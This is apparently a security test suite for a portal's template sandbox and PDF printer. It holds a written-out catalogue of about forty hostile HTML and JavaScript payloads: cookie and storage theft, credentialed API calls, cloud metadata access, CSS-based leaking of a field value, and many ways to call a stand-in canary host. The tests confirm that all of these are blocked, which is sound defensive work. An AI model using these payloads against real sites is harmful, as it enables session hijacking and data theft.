/**
 * Pages of templates as a weapon (TRUST.md B6): in the frame of the portal, with its own headers, and through the printer of PDFs. Every
 * request that is for nobody of ours goes to a proxy that counts, every word that a page gets hold of is told to the test.
 */
import { createServer, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { chromium, type Browser } from 'playwright-core'
import { renderToStaticMarkup } from 'react-dom/server'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { pageFramePath, templatePage } from '#values/page-policy.ts'
import { Sandbox } from '#screens/ui/page-frame.tsx'
import { showPage } from '#screens/ui/show-page.ts'
import { findChromium } from '#service/rendering/chromium.ts'
import { pageHeaders } from '#service/http/headers.ts'
import { pageFrame } from '#service/http/page-frame.ts'
import { createPrinter } from '#service/rendering/printer.ts'

const secret = 'oturum-sirri'
let asked: string[] = []
/** A proxy for everything: what is for the portal is answered as the portal does, all else is counted. */
const canary = createServer((request, response) => {
  if (request.url?.startsWith(`${origin}/`))
    return answerPortal(request.url.slice(origin.length), response)
  asked.push(request.url ?? '')
  response.end()
})
canary.on('connect', (request, socket) => {
  asked.push(request.url ?? '')
  socket.destroy()
})
canary.on('upgrade', (request, socket) => {
  asked.push(request.url ?? '')
  socket.destroy()
})
/** One that a browser trusts as it trusts https. */
const origin = 'http://localhost:4000'
function answerPortal(path: string, response: ServerResponse): void {
  const isFrame = path === pageFramePath
  if (!isFrame && path !== '/') asked.push(`portal ${path}`)
  if (!isFrame)
    return void response
      .writeHead(200, {
        ...pageHeaders({ services: [], identity: [] }),
        'Content-Type': 'text/html; charset=utf-8',
        'Set-Cookie': `session=${secret}`,
      })
      // It names its icon, or some browsers would ask for one by themselves.
      .end('<!doctype html><title>Evrak</title><link rel="icon" href="data:,"><body></body>')
  const place = pageFrame()
  void place
    .text()
    .then((body) => response.writeHead(200, Object.fromEntries(place.headers)).end(body))
}
const portOf = (server: Server) => (server.address() as AddressInfo).port

let browser: Browser
beforeAll(async () => {
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
  browser = await chromium.launch({
    ...(await findChromium(() => {})),
    headless: true,
    proxy: { server: `http://127.0.0.1:${portOf(canary)}` },
  })
})
afterAll(async () => {
  await browser?.close()
  canary.close()
})

/** Each attack has a page of its own with `ATTACKS=all`, as `npm run proof -- attacks` has it; otherwise many share one. */
const isThorough = process.env['ATTACKS'] === 'all'

/** In a block, so that several can be in one page. */
const script = (body: string) =>
  `<script>{ const tell = (what) => parent.postMessage('got ' + what, '*'); const attempt = async (what) => { try { tell(await what()) } catch { tell('nothing') } };\n${body} }</script>`
const click = `document.querySelector('a, button').click()`

/** `web` is where a page wants to go. */
const attacks: Readonly<Record<string, (web: string) => string>> = {
  'cookies of the session': () => script('attempt(() => document.cookie)'),
  'the page around it': () => script('attempt(() => parent.document.documentElement.outerHTML)'),
  'the storage around it': () => script(`attempt(() => parent.localStorage.getItem('secret'))`),
  'a storage of its own': () =>
    script(
      `attempt(() => localStorage.getItem('secret')); attempt(() => sessionStorage.getItem('secret'))`,
    ),
  'the database of the browser': () =>
    script(
      `attempt(() => new Promise((yes, no) => { const db = indexedDB.open('x'); db.onsuccess = () => yes('opened'); db.onerror = no }))`,
    ),
  'the page that opened it': () => script('attempt(() => opener.document.cookie)'),
  fetch: (web) => script(`attempt(() => fetch('${web}/fetch', { mode: 'no-cors' }))`),
  'a call of the portal': () =>
    script(
      `attempt(() => fetch('/api/GeneralCompany', { credentials: 'include' }).then((answer) => answer.text()))`,
    ),
  XMLHttpRequest: (web) =>
    script(`const ask = new XMLHttpRequest(); ask.open('GET', '${web}/xhr'); ask.send()`),
  WebSocket: (web) => script(`new WebSocket('${web.replace('http', 'ws')}/socket')`),
  EventSource: (web) => script(`new EventSource('${web}/events')`),
  sendBeacon: (web) => script(`navigator.sendBeacon('${web}/beacon', 'x')`),
  'a picture': (web) => `<img src="${web}/img"><img srcset="${web}/srcset 1x">`,
  'the metadata of a cloud': () => '<img src="http://169.254.169.254/latest/meta-data/">',
  'a frame': (web) => `<iframe src="${web}/frame"></iframe>`,
  'a frame with a script in it': (web) =>
    `<iframe srcdoc="<script>fetch('${web}/srcdoc', { mode: 'no-cors' })</script><img src='${web}/srcdoc-img'>"></iframe>`,
  'an empty frame with new functions': (web) =>
    script(
      `const frame = document.body.appendChild(document.createElement('iframe')); frame.contentWindow.fetch('${web}/empty', { mode: 'no-cors' }); frame.contentWindow.Image && (new frame.contentWindow.Image().src = '${web}/empty-img')`,
    ),
  'meta refresh': (web) => `<meta http-equiv="refresh" content="0;url=${web}/refresh">`,
  'a looser policy': (web) =>
    `<html><head><meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"></head><body><img src="${web}/looser"></body></html>`,
  'its own address': (web) => script(`location.href = '${web}/self?' + document.title`),
  'the address of the portal': (web) => script(`attempt(() => { top.location = '${web}/top' })`),
  'the address of the portal by a link': (web) =>
    `<a target="_top" href="${web}/link">x</a>${script(click)}`,
  'a window': (web) => script(`attempt(() => open('${web}/window').document.title)`),
  'a window by a link': (web) =>
    `<a target="_blank" rel="opener" href="${web}/blank">x</a>${script(click)}`,
  'a ping': (web) => `<a href="#x" ping="${web}/ping">x</a>${script(click)}`,
  'a form': (web) =>
    `<form method="post" action="${web}/form"><input name="a" value="x"><button>x</button></form>${script(`document.forms[0].submit(); ${click}`)}`,
  'another base': (web) => `<base href="${web}/"><img src="base"><script src="base.js"></script>`,
  'object and embed': (web) => `<object data="${web}/object"></object><embed src="${web}/embed">`,
  'a stylesheet': (web) =>
    `<link rel="stylesheet" href="${web}/css"><style>@import '${web}/import';</style>`,
  'styles that tell what a field says': (web) =>
    `<input value="${secret}"><style>input[value^="o"] { background: url(${web}/starts-with-o) } @font-face { font-family: x; src: url(${web}/font) } body { font-family: x; cursor: url(${web}/cursor), auto; list-style: url(${web}/list) }</style>`,
  'connections ahead': (web) =>
    `<link rel="preconnect" href="${web}"><link rel="dns-prefetch" href="${web}"><link rel="prefetch" href="${web}/prefetch"><link rel="preload" as="image" href="${web}/preload"><link rel="modulepreload" href="${web}/module"><link rel="icon" href="${web}/icon"><link rel="manifest" href="${web}/manifest">`,
  'connections ahead, by a script': (web) =>
    script(
      `const link = document.createElement('link'); link.rel = 'preconnect'; link.href = '${web}'; document.head.append(link)`,
    ),
  'pages ahead': (web) =>
    `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${web}/speculation"]}], "prerender": [{"source": "list", "urls": ["${web}/prerender"]}]}</script>`,
  'a script from elsewhere': (web) =>
    `<script src="${web}/script.js"></script><script type="module">import('${web}/import.js')</script>`,
  'a worker': (web) =>
    script(
      `attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('${web}/worker', { mode: 'no-cors' })"]))))`,
    ),
  'a service worker': () =>
    script(`attempt(() => navigator.serviceWorker.register('/sw.js').then(() => 'registered'))`),
  drawings: (web) =>
    `<svg><image href="${web}/svg-image"/><use href="${web}/use.svg#a"/><filter id="f"><feImage href="${web}/fe"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(${web}/fill#a)"/></svg>`,
  'sound and film': (web) =>
    `<video src="${web}/video" poster="${web}/poster" autoplay></video><audio src="${web}/audio" autoplay></audio><track src="${web}/track">`,
  'XSLT of its own': (web) =>
    `<?xml-stylesheet type="text/xsl" href="${web}/xsl"?><p>x</p>${script(`attempt(() => { const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${web}/xsl-import"/></xsl:stylesheet>', 'text/xml')); return 'made' })`)}`,
}
const names = Object.keys(attacks)

/** Of the frame as React writes it; the page itself makes no element of text (TRUST B7). */
const attributesOf = (markup: string): readonly (readonly [name: string, value: string])[] =>
  [...markup.matchAll(/ ([a-z]+)="([^"]*)"/g)].map(([, name = '', value = '']) => [name, value])

/** Pages in frames of the portal, for a while or until one tells `awaited`; gives what they told the portal, and where the portal is then. */
async function shownInPortal(
  pages: readonly string[],
  awaited?: string,
): Promise<{ told: readonly string[]; address: string; pages: number }> {
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await page.goto(origin)
    await page.evaluate((kept) => {
      localStorage.setItem('secret', kept)
      Object.assign(window, { told: [] })
      addEventListener('message', ({ data }) =>
        (window as unknown as { told: string[] }).told.push(String(data)),
      )
    }, secret)
    for (const html of pages) {
      // As React does it: the frame is put into the page, and told when it is there.
      const frame = await page.evaluateHandle(
        (attributes) => {
          const made = document.createElement('iframe')
          for (const [name, value] of attributes) made.setAttribute(name, value)
          document.body.append(made)
          return new Promise<HTMLIFrameElement>((resolve) =>
            made.addEventListener('load', () => resolve(made), { once: true }),
          )
        },
        attributesOf(renderToStaticMarkup(<Sandbox title="x" html={html} />)),
      )
      await frame.evaluate(showPage, html)
    }
    if (awaited === undefined) await pause(600)
    else
      await page.waitForFunction(
        (what) => (window as unknown as { told: string[] }).told.includes(what),
        awaited,
        { timeout: 0 },
      )
    return {
      told: await page.evaluate(() => (window as unknown as { told: string[] }).told),
      address: page.url(),
      pages: context.pages().length,
    }
  } finally {
    await context.close()
  }
}

describe('pages of templates in the frame of the portal', () => {
  const together: readonly (readonly [what: string, shown: readonly string[]])[] = isThorough
    ? names.map((name) => [name, [name]])
    : [[`${names.length} attacks in one page`, names]]
  it.each(together)('[TM7] %s: nobody is asked, nothing is got', async (_, shown) => {
    asked = []
    const { told, address, pages } = await shownInPortal(
      shown.map((name) => templatePage(attacks[name]!('http://canary.example'))),
    )
    if (!isThorough) expect(told.filter((one) => one === 'got nothing').length).toBeGreaterThan(5)
    expect(asked).toEqual([])
    expect(told.filter((one) => one.includes(secret) || /opened|registered/.test(one))).toEqual([])
    expect({ address, pages }).toEqual({ address: `${origin}/`, pages: 1 })
  })

  it('[TM7] its own script runs, and draws with what it brings along', async () => {
    const { told } = await shownInPortal(
      [
        templatePage(
          `<img id="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">${script(`addEventListener('load', () => tell('picture ' + document.getElementById('dot').naturalWidth))`)}`,
        ),
      ],
      'got picture 1',
    )
    expect(told).toContain('got picture 1')
  })

  it('[TM7] the test sees a page that gets out: the same pages without the frame ask', async () => {
    asked = []
    const page = await browser.newPage()
    await page.setContent(
      attacks['a picture']!('http://canary.example') + attacks['fetch']!('http://canary.example'),
    )
    await expect.poll(() => asked.length).toBeGreaterThan(1)
    await page.close()
  })
})

/** One of each way in which a page leads elsewhere, after which a browser is started anew: by its head, a script, a link, a window, a form. */
const leadingElsewhere = [
  'meta refresh',
  'its own address',
  'the address of the portal by a link',
  'a window',
  'a form',
]

/** Attacks that leave the page as it is share one; those that lead elsewhere, and in the proof all that run a script, have a page of their own. */
function sheets(web: string): readonly (readonly string[])[] {
  const alone = isThorough ? /<script|http-equiv/ : /http-equiv|location|\.click\(\)|\(\) => open\(/
  const isAlone = (name: string) => alone.test(attacks[name]!(web))
  const lone = names.filter(isAlone)
  const printed = isThorough ? lone : lone.filter((name) => leadingElsewhere.includes(name))
  return [names.filter((name) => !isAlone(name)), ...printed.map((name) => [name])]
}

describe('pages of templates on paper', () => {
  it('[TM8] every one is printed or stopped, and asks nobody', async () => {
    asked = []
    const printer = createPrinter({ limits: { templateMs: 5_000 } })
    const web = `http://127.0.0.1:${portOf(canary)}`
    try {
      for (const together of sheets(web)) {
        const outcome = await printer
          .print(
            templatePage(`<p>sakin</p>${together.map((name) => attacks[name]!(web)).join('')}`),
          )
          .then(
            (pdf) => Buffer.from(pdf.subarray(0, 5)).toString(),
            (error: Error) => error.message,
          )
        expect([together, outcome]).toEqual([
          together,
          expect.stringMatching(
            /^%PDF-|navigat|closed|destroyed|its end|page went to|ended itself|not printed within/i,
          ),
        ])
      }
      await pause(500)
      expect(asked).toEqual([])
    } finally {
      await printer.close()
    }
  })

  it('[TM8] a script without an end is stopped, and the next page is printed', async () => {
    // The page keeps a core busy for all of its time; the next one needs a fraction of it.
    const printer = createPrinter({ limits: { templateMs: 2_000 } })
    try {
      await expect(printer.print(templatePage('<script>for (;;) {}</script>'))).rejects.toThrow()
      expect(
        Buffer.from((await printer.print(templatePage('<p>iyi</p>'))).subarray(0, 5)).toString(),
      ).toBe('%PDF-')
    } finally {
      await printer.close()
    }
  })
})
